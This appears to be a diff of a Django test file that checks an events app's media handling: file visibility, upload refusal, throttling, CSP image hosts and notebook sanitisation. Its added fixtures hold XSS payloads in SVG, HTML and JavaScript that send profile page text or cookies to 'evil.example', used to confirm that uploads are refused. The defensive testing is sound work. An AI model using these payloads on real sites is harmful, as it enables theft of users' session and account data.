@@ -1,14 +1,13 @@
-"""Findings 1, 2 and 8 of issue #12 for the events app: stored files are served only by
-views that check visibility, photo uploads are checked one file at a time, uploads are
-throttled, and external photos are images only where the CSP allows their host."""
+"""Media pages (issue #12, findings 1, 2 and 8, tried as a visitor too): stored files
+are served only by views that check visibility and never as active content; uploads are
+checked one file at a time and throttled; external photos are images only where the CSP
+allows their host; notebooks render sanitised."""
 
 import io
-import struct
-import zlib
+import re
 from pathlib import Path
 
 import pytest
-from django.core.cache import cache
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from PIL import Image
@@ -17,45 +16,23 @@ from rest_framework.test import APIClient
 from rest_framework.throttling import SimpleRateThrottle
 
 from events import services
-from events.models import Event, Photo
+from events.models import Event, Material
 from tests.events.factories import EventFactory, MaterialFactory, PhotoFactory
+from tests.events.support import body, image_bytes, login, with_img_hosts
 
 pytestmark = pytest.mark.django_db
 
 
-def image_bytes(size=(40, 30), fmt="PNG", color=(200, 100, 50), exif=None) -> bytes:
-    out = io.BytesIO()
-    kwargs = {"exif": exif} if exif is not None else {}
-    Image.new("RGB", size, color).save(out, format=fmt, **kwargs)
-    return out.getvalue()
+def _upload_page(client, event, files, caption=""):
+    return client.post(reverse("events:photos_upload", kwargs={"slug": event.slug}),
+                       {"photos": files, "caption": caption})
 
 
-def png_header_only(width: int, height: int) -> bytes:
-    """A PNG that declares ``width`` x ``height`` pixels and holds almost no data."""
+@pytest.fixture
+def two_uploads_a_minute(monkeypatch, settings):
+    rates = {**api_settings.DEFAULT_THROTTLE_RATES, "uploads": "2/minute"}
+    monkeypatch.setattr(SimpleRateThrottle, "THROTTLE_RATES", rates)
 
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return (struct.pack(">I", len(data)) + kind + data
-                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
-
-    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
-            + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))
-
-
-def body(response) -> bytes:
-    if hasattr(response, "streaming_content"):
-        return b"".join(response.streaming_content)  # the client closes it at the end
-    return response.content
-
-
-@pytest.fixture(autouse=True)
-def _fresh_cache():
-    cache.clear()
-    yield
-    cache.clear()
-
-
-# --- serving -----------------------------------------------------------------------------
 
 def test_a_material_is_served_as_an_attachment_that_cannot_run(client, event):
     material = MaterialFactory(event=event)
@@ -122,13 +99,6 @@ def test_pages_and_the_api_link_to_the_views_never_to_stored_names(client, event
         assert Path(stored).stem not in text
 
 
-# --- photo uploads -------------------------------------------------------------------------
-
-def _upload_page(client, event, files, caption=""):
-    return client.post(reverse("events:photos_upload", kwargs={"slug": event.slug}),
-                       {"photos": files, "caption": caption})
-
-
 def test_a_fake_jpg_is_refused_alone_and_the_rest_of_the_batch_is_saved(client, event,
                                                                          organiser):
     client.force_login(organiser)
@@ -164,44 +134,12 @@ def test_a_duplicate_is_refused_and_not_saved_twice(client, event, organiser):
     assert other.photos.count() == 1
 
 
-def test_the_same_bytes_cannot_be_stored_twice_per_event_even_in_parallel(event, organiser):
-    from django.db import IntegrityError, transaction
-
-    photo = services.photos_upload(actor=organiser, event=event, uploads=[
-        SimpleUploadedFile("a.png", image_bytes())]).saved[0]
-    with pytest.raises(IntegrityError), transaction.atomic():
-        Photo.objects.create(event=event, sha256=photo.sha256)
-
-
 def test_only_refused_files_keep_the_form_with_the_reasons(client, event, organiser):
     client.force_login(organiser)
     response = _upload_page(client, event, [SimpleUploadedFile("a.txt", b"hello")])
     assert response.status_code == 200
     assert "a.txt was not saved" in response.content.decode()
     assert not event.photos.exists()
-
-
-def test_pixels_are_counted_before_anything_is_decoded(event, organiser, settings):
-    settings.UPLOAD_MAX_PIXELS = 1_000_000
-    report = services.photos_upload(actor=organiser, event=event, uploads=[
-        SimpleUploadedFile("huge.png", png_header_only(40_000, 40_000)),
-        SimpleUploadedFile("wide.png", png_header_only(2000, 1000)),
-        SimpleUploadedFile("ok.png", image_bytes())])
-    assert [name for name, _reason in report.refused] == ["huge.png", "wide.png"]
-    assert all("too many pixels" in reason for _name, reason in report.refused)
-    assert len(report.saved) == 1
-
-
-def test_a_large_photo_is_bounded_and_a_png_is_accepted(event, organiser):
-    report = services.photos_upload(actor=organiser, event=event, uploads=[
-        SimpleUploadedFile("big.png", image_bytes((3000, 1500)))])
-    photo = report.saved[0]
-    assert (photo.width, photo.height) == (2560, 1280)
-    with Image.open(photo.image.path) as stored:
-        assert stored.format == "JPEG" and stored.size == (2560, 1280)
-    assert photo.image.name.startswith("events/photos/")
-    assert photo.thumbnail.name.startswith("events/thumbs/")
-    assert len(Path(photo.image.name).stem) >= 32
 
 
 def test_a_broken_upload_is_never_a_server_error(client, event, organiser):
@@ -213,14 +151,6 @@ def test_a_broken_upload_is_never_a_server_error(client, event, organiser):
     page = response.content.decode()
     assert "cut.jpg was not saved: The image is broken or truncated." in page
     assert "empty.jpg was not saved: The file is empty." in page
-
-
-# --- throttling ----------------------------------------------------------------------------
-
-@pytest.fixture
-def two_uploads_a_minute(monkeypatch, settings):
-    rates = {**api_settings.DEFAULT_THROTTLE_RATES, "uploads": "2/minute"}
-    monkeypatch.setattr(SimpleRateThrottle, "THROTTLE_RATES", rates)
 
 
 @pytest.mark.parametrize("page", ["events:photos_upload", "events:material_add"])
@@ -242,55 +172,22 @@ def test_material_edit_is_throttled_too(client, event, organiser, two_uploads_a_
     assert statuses == [200, 200, 429]
 
 
-# --- external photos and the CSP -------------------------------------------------------------
-
-def _with_img_hosts(settings, *hosts):
-    directives = dict(settings.CONTENT_SECURITY_POLICY["DIRECTIVES"])
-    directives["img-src"] = ["'self'", "data:", *hosts]
-    settings.CONTENT_SECURITY_POLICY = {**settings.CONTENT_SECURITY_POLICY,
-                                        "DIRECTIVES": directives}
-
-
-def test_img_src_allows_no_remote_host_by_default(settings):
-    assert "https:" not in settings.CONTENT_SECURITY_POLICY["DIRECTIVES"]["img-src"]
-
-
 def test_an_external_photo_is_a_link_unless_its_host_is_allowed(client, organiser, settings):
     event = EventFactory(organisers=[organiser])
     services.photo_add_external(actor=organiser, event=event,
                                 url="https://ipic.zoomquiet.top/2019-09-09-room.jpg",
                                 caption="The room")
-    _with_img_hosts(settings)
+    with_img_hosts(settings)
     page = client.get(event.get_absolute_url()).content.decode()
     assert 'src="https://ipic.zoomquiet.top' not in page
     assert 'class="photo-link" href="https://ipic.zoomquiet.top/2019-09-09-room.jpg"' in page
     assert "ipic.zoomquiet.top" in page and "The room" in page
-    _with_img_hosts(settings, "https://ipic.zoomquiet.top")
+    with_img_hosts(settings, "https://ipic.zoomquiet.top")
     page = client.get(event.get_absolute_url()).content.decode()
     assert '<img src="https://ipic.zoomquiet.top/2019-09-09-room.jpg"' in page
     client.force_login(organiser)
     manage = client.get(reverse("events:manage", kwargs={"slug": event.slug})).content.decode()
     assert '<img src="https://ipic.zoomquiet.top/2019-09-09-room.jpg"' in manage
-
-
-@pytest.mark.parametrize(("sources", "url", "allowed"), [
-    (["https://ipic.zoomquiet.top"], "https://ipic.zoomquiet.top/a.jpg", True),
-    (["https://ipic.zoomquiet.top"], "http://ipic.zoomquiet.top/a.jpg", False),
-    (["https://ipic.zoomquiet.top"], "https://evil.top/a.jpg", False),
-    (["https://ipic.zoomquiet.top"], "https://ipic.zoomquiet.top.evil.top/a.jpg", False),
-    (["https://ipic.zoomquiet.top"], "https://ipic.zoomquiet.top:8443/a.jpg", False),
-    (["*.example.org"], "https://img.example.org/a.jpg", True),
-    (["*.example.org"], "https://example.org/a.jpg", False),
-    (["https://cdn.example.org/pics/"], "https://cdn.example.org/pics/a.jpg", True),
-    (["https://cdn.example.org/pics/"], "https://cdn.example.org/other/a.jpg", False),
-    (["'self'", "data:"], "https://anything.example/a.jpg", False),
-    (["https:"], "https://anything.example/a.jpg", True),
-])
-def test_image_hosts_follow_csp_host_sources(settings, sources, url, allowed):
-    from events.rendering import image_host_allowed
-
-    _with_img_hosts(settings, *sources)
-    assert image_host_allowed(url) is allowed
 
 
 def test_cancelled_events_files_stay_public(client, organiser):
@@ -336,3 +233,183 @@ def test_a_stored_notebook_that_no_longer_validates_is_offered_for_download(clie
     response = client.get(material.get_absolute_url())
     assert response.status_code == 200
     assert "cannot be shown here" in response.content.decode()
+
+
+SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/en/accounts/profile/\')'
+       b'.then(r=>r.text()).then(t=>new Image().src=\'https://evil.example/?\'+t)"/>')
+
+
+HTML = (b"<!doctype html><html><body><script>fetch('/en/accounts/profile/')"
+        b".then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)"
+        b"</script></body></html>")
+
+
+@pytest.fixture
+def stored(organiser):
+    """A public event and a draft, each with an uploaded material and photo."""
+    public = EventFactory(organisers=[organiser])
+    draft = EventFactory(status=Event.Status.DRAFT, organisers=[organiser])
+    return {
+        "public": public, "draft": draft,
+        "files": [MaterialFactory(event=public), PhotoFactory(event=public),
+                  MaterialFactory(event=draft), PhotoFactory(event=draft)],
+    }
+
+
+def _stored_names(stored) -> list[str]:
+    names = []
+    for obj in stored["files"]:
+        if isinstance(obj, Material):
+            names.append(obj.file.name)
+        else:
+            names += [obj.image.name, obj.thumbnail.name]
+    return names
+
+
+def test_no_stored_file_is_reachable_by_a_path_built_from_public_data(visitor, stored):
+    public = stored["public"]
+    page = visitor.get(public.get_absolute_url()).content.decode()
+    api = APIClient().get(f"/api/v1/events/{public.slug}/").content.decode()
+    seen = page + api
+    # the stored names, random or not, appear nowhere a visitor can read
+    for name in _stored_names(stored):
+        assert Path(name).stem not in seen
+    # and no path a visitor could build from what they see reaches a file
+    candidates = ["/media/" + name for name in _stored_names(stored)]
+    for event in (public, stored["draft"]):
+        for folder, filename in (("materials", "slides.pdf"), ("photos", "room.jpg"),
+                                 ("thumbs", "room-thumb.jpg")):
+            candidates.append(f"/media/events/{event.pk}/{folder}/{filename}")
+            candidates.append(f"/en/media/events/{event.pk}/{folder}/{filename}")
+    for href in re.findall(r'(?:href|src)="(/[a-z-]+/events/[^"?]+)"', page):
+        candidates.append(href.replace("/events/", "/media/events/", 1))
+    for url in candidates:
+        assert visitor.get(url).status_code == 404, url
+
+
+def test_a_drafts_files_are_not_found_even_through_the_views(visitor, stored):
+    _m, _p, material, photo = stored["files"]
+    for url in (material.file_url, photo.src, photo.thumb_src,
+                reverse("events:material", kwargs={"slug": stored["draft"].slug,
+                                                   "pk": material.pk})):
+        assert visitor.get(url).status_code == 404, url
+
+
+def test_ids_of_another_event_do_not_reach_a_draft_file(visitor, stored):
+    """The public event's slug with the draft's ids: still not found."""
+    public = stored["public"]
+    _m, _p, material, photo = stored["files"]
+    for name, pk in (("events:material_file", material.pk), ("events:photo", photo.pk),
+                     ("events:photo_thumb", photo.pk)):
+        url = reverse(name, kwargs={"slug": public.slug, "pk": pk})
+        assert visitor.get(url).status_code == 404, url
+
+
+@pytest.mark.parametrize(("name", "data", "kind"), [
+    ("page.html", HTML, "slides"),
+    ("logo.svg", SVG, "slides"),
+    ("logo.png", SVG, "slides"),  # a disguised SVG
+    ("notes.txt", HTML, "code"),
+    ("app.js", b"new Image().src='https://evil.example/?'+document.cookie", "code"),
+    ("slides.pdf", HTML, "slides"),
+])
+def test_an_active_file_uploaded_as_a_material_is_refused(client, organiser, settings, name,
+                                                          data, kind):
+    event = EventFactory(organisers=[organiser])
+    client.force_login(organiser)
+    response = client.post(
+        reverse("events:material_add", kwargs={"slug": event.slug}),
+        {"title": "Deck", "kind": kind,
+         "file": SimpleUploadedFile(name, data, content_type="image/svg+xml")})
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert f"{name}:" in page or f"{name} " in page
+    assert not Material.objects.exists()
+    assert not any(p.is_file() for p in Path(settings.MEDIA_ROOT).rglob("*"))
+
+
+def test_an_svg_photo_is_refused(client, organiser):
+    event = EventFactory(organisers=[organiser])
+    client.force_login(organiser)
+    response = client.post(reverse("events:photos_upload", kwargs={"slug": event.slug}),
+                           {"photos": [SimpleUploadedFile("fin.svg", SVG)]})
+    assert "fin.svg was not saved" in response.content.decode()
+    assert not event.photos.exists()
+
+
+@pytest.mark.parametrize(("name", "data", "kind", "content_type"), [
+    ("deck.pdf", b"%PDF-1.4 deck", "slides", "application/pdf"),
+    ("train.py", b"print('hello')\n", "code", "text/plain; charset=utf-8"),
+    ("demo.ipynb", b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
+     "notebook", "application/x-ipynb+json"),
+])
+def test_a_material_served_back_cannot_run(visitor, organiser, name, data, kind,
+                                           content_type):
+    event = EventFactory(organisers=[organiser])
+    material = services.material_add(actor=organiser, event=event, title="M", kind=kind,
+                                     upload=SimpleUploadedFile(name, data))
+    response = visitor.get(material.file_url)
+    assert response.status_code == 200
+    assert response["Content-Type"] == content_type
+    assert response["Content-Disposition"].startswith("attachment")
+    assert f'filename="{name}"' in response["Content-Disposition"]
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert "sandbox" in response["Content-Security-Policy"]
+    assert b"".join(response.streaming_content) == data
+
+
+def test_the_site_has_no_media_url(visitor, stored):
+    from django.urls import Resolver404, resolve
+
+    for path in ("/media/x.html", "/en/media/x.html"):
+        with pytest.raises(Resolver404):
+            resolve(path)
+
+
+def test_event_page_embeds_only_allowed_players(client, organiser):
+    from events import services
+
+    event = EventFactory(organisers=[organiser])
+    services.recording_add(actor=organiser, event=event, title="YT", provider="youtube",
+                           url="https://www.youtube.com/watch?v=qyvlt7kiQoI")
+    services.recording_add(actor=organiser, event=event, title="Audio", provider="drive",
+                           url="https://pan.baidu.com/s/x", access_code="y9ey", kind="audio")
+    response = client.get(event.get_absolute_url())
+    page = response.content.decode()
+    assert page.count("<iframe") == 1
+    assert 'src="https://www.youtube-nocookie.com/embed/qyvlt7kiQoI"' in page
+    assert "y9ey" in page
+    csp = response["Content-Security-Policy"]
+    assert "frame-src https://www.youtube-nocookie.com https://www.youtube.com " \
+           "https://player.bilibili.com" in csp
+    assert "style=" not in page and "<script>" not in page
+
+
+def test_notebook_page_renders_sanitised(client, organiser):
+    import json
+
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from events import services
+
+    event = EventFactory(organisers=[organiser])
+    nb = json.dumps({"cells": [{"cell_type": "markdown", "metadata": {}, "id": "x",
+                                "source": "# Digits\n<script>alert(1)</script>"}],
+                     "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+    material = services.material_add(actor=organiser, event=event, title="nb",
+                                     kind="notebook",
+                                     upload=SimpleUploadedFile("d.ipynb", nb))
+    page = client.get(material.get_absolute_url()).content.decode()
+    assert "Digits" in page and "alert(1)" not in page
+
+
+def test_photo_upload_page_reports_bad_file(client, event, organiser):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    login(client, organiser)
+    response = client.post(reverse("events:photos_upload", kwargs={"slug": event.slug}),
+                           {"photos": [SimpleUploadedFile("x.jpg", b"nope")]})
+    assert response.status_code == 200
+    assert "x.jpg was not saved: This file is not an image we can read." in \
+        response.content.decode()
+    assert not event.photos.exists()
